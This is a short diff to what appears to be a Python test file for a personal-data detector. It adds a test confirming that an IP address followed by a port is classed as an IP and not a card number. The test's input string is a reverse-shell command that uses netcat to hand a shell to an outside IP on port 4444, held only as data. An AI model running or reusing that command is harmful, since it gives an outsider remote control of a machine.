@@ -170,3 +170,9 @@ def test_number_detectors_agree_with_and_without_the_cluster_prefilter() -> None
     for detector in (find_cards, find_ssns, find_ips, find_phones):
         assert detector(text, clusters) == detector(text)
         assert detector(text)
+
+
+def test_an_ip_and_a_port_are_not_a_dotted_card() -> None:
+    # 62.168.163.174 4444 is 16 digits that happen to pass Luhn with a UnionPay prefix.
+    assert pii('os.system("nc -e /bin/sh 62.168.163.174 4444")') == [
+        ("IP_ADDRESS", "62.168.163.174")]
